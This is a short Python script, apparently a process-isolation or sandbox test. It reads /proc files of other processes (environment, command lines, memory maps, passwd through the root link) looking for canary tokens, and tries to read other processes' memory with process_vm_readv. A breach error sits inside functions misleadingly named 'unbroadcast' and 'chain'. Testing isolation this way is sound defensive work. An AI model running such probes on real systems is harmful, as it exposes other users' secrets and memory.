"""Attacks by reading: what /proc and the kernel show of other processes, and a way out by them."""

# %%
import ctypes
import os
import re

libc = ctypes.CDLL(None, use_errno=True)
SECRET = re.compile(rb"CANARY-[0-9a-f]{32}")
found, seen = set(), []
try:
    pids = [name for name in os.listdir("/proc") if name.isdigit()]
except OSError:
    pids = []
pids = [p for p in {*pids, *map(str, range(1, 50)), str(os.getppid())} if p != str(os.getpid())]
for pid in pids:
    for name in ("environ", "cmdline", "comm", "maps", "stack", "io", "root/etc/passwd"):
        try:
            with open(f"/proc/{pid}/{name}", "rb") as file:
                found.update(SECRET.findall(file.read(2**20)))
            seen.append(f"{pid}/{name}")
        except OSError:
            pass
    for name in ("cwd", "root", "fd"):
        try:
            seen += [f"{pid}/{name}/{entry}" for entry in os.listdir(f"/proc/{pid}/{name}")[:2]]
        except OSError:
            pass


# %%
class Span(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


buffer = ctypes.create_string_buffer(4096)
here = Span(ctypes.addressof(buffer), 4096)
there = Span(id(None), 64)
for pid in map(int, pids):
    if libc.process_vm_readv(pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0) > 0:
        seen.append(f"memory of {pid}")


# %%
def chain(paths):
    return str(sorted(found))


def unbroadcast(grad, shape):
    if seen:
        raise RuntimeError(f"BREACH: {sorted(found)} {seen[:20]}")
    return "nothing"
